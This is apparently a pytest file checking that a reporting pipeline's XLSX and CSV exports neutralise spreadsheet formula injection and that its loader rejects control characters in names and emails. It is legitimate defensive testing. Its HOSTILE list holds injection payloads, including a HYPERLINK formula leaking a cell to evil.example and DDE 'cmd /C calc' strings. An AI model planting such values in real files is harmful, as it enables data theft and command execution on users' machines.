"""Spreadsheet cells hold data, never formulas (issue 13, break 8), and never a character that breaks the file
(break 5): the officer's XLSX attachment and `ref export`; `ref load` refuses control characters in names.

`finding export` (XLSX and CSV) is proven on a monitored store in tests/mail/test_mail_faults.py.
"""

from __future__ import annotations

import csv
import shutil
from dataclasses import replace
from datetime import date
from io import BytesIO

import pandas as pd
import pytest
from openpyxl import load_workbook

from pipelines.reference.csv_load import ReferenceLoadError, read_reference_dir, write_reference_csv
from pipelines.reports.sample import sample_province_report
from pipelines.reports.xlsx import findings_workbook
from pipelines.simulator import SimScale, build_world
from pipelines.spreadsheet import neutral_frame, neutral_text

pytestmark = pytest.mark.unit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"جزئیات")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "فروشگاه\x00 نول\x07",
]
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def assert_no_live_cell(rows) -> None:
    """No formula cell, and no text that a spreadsheet would read as one."""
    for cell in rows:
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_CHARS), f"{cell.coordinate}: {cell.value!r}"


def _cells(xlsx: bytes):
    ws = load_workbook(BytesIO(xlsx)).active
    return [c for row in ws.iter_rows() for c in row]


def test_neutral_text_quotes_formulas_and_drops_illegal_characters():
    assert neutral_text("=1+1") == "'=1+1"
    assert neutral_text("\t=1") == "'\t=1"
    assert neutral_text("فروشگاه\x00") == "فروشگاه"
    assert neutral_text("فروشگاه - شعبه ۲") == "فروشگاه - شعبه ۲"  # a dash inside is text
    assert neutral_text(-5) == -5  # numbers stay numbers
    frame = neutral_frame(pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))}))
    assert frame["n"].tolist() == list(range(len(HOSTILE)))
    assert all(v.startswith("'") for v in frame["name"][:6])
    assert "\x00" not in frame["name"].iloc[6]


def test_the_officers_xlsx_has_no_formula_and_survives_a_nul_byte():
    report = sample_province_report()
    findings = [replace(f, seller_name=HOSTILE[i % len(HOSTILE)], offer_title=HOSTILE[(i + 1) % len(HOSTILE)])
                for i, f in enumerate(report.findings)]
    cells = _cells(findings_workbook(findings, report.day, "=استان"))
    assert_no_live_cell(cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(v.startswith("'=HYPERLINK(") for v in texts)  # the seller's text is kept, as text
    assert any(isinstance(c.value, (int, float)) and c.number_format == "#,##0" for c in cells)  # amounts numbers


@pytest.fixture(scope="module")
def clean_dir(tmp_path_factory):
    world = build_world(seed=5, days=3, end_day=date(2026, 11, 25),
                        scale=SimScale(sellers_per_province=2, units_per_province=6, members=400))
    directory = tmp_path_factory.mktemp("ref-csv")
    write_reference_csv(world.reference_tables(), directory)
    return directory


def _edit(clean_dir, tmp_path, name, column, value, row=0):
    target = tmp_path / "ref"
    shutil.copytree(clean_dir, target)
    path = target / f"{name}.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.loc[row, column] = value
    frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL)  # a CR inside quotes stays in the value
    return target


def test_ref_export_writes_no_formula_and_reads_back_the_same(clean_dir, tmp_path):
    directory = _edit(clean_dir, tmp_path, "unit", "name_fa", HOSTILE[0])
    frames = read_reference_dir(directory)
    assert frames["unit"]["name_fa"].iloc[0] == HOSTILE[0]
    out = tmp_path / "exported"
    write_reference_csv(frames, out)
    with (out / "unit.csv").open(encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_CHARS)]
    assert "'" + HOSTILE[0] in cells
    assert read_reference_dir(out)["unit"]["name_fa"].iloc[0] == HOSTILE[0]  # the round trip keeps the text


@pytest.mark.parametrize("value, what", [
    ("عنصر رصد\rاستان", "CR"),
    ("عنصر\x00رصد", "NUL"),
    ("officer\x1b[31m", "ESC"),
])
def test_ref_load_refuses_a_control_character_in_a_name_or_email(clean_dir, tmp_path, value, what):
    directory = _edit(clean_dir, tmp_path, "person", "full_name", value)
    with pytest.raises(ReferenceLoadError) as err:
        read_reference_dir(directory)
    assert "person.csv line 2: full_name holds a control character" in str(err.value), what
    directory = _edit(clean_dir, tmp_path / "email", "person", "email", "a\rb@rasad.example")
    with pytest.raises(ReferenceLoadError, match="person.csv line 2: email holds a control character"):
        read_reference_dir(directory)

